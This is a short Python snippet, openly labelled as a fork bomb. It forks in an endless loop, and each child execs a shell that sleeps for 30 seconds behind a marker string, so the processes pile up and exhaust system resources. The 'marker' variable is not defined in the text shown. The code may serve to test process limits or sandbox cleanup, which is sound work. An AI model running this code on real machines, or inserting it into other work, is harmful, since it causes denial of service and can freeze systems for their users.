# A fork bomb whose children linger.
import os
while True:
    try:
        if os.fork() == 0:
            os.execv('/bin/sh', ['sh', '-c', 'sleep 30; : ' + marker])
    except OSError:
        pass
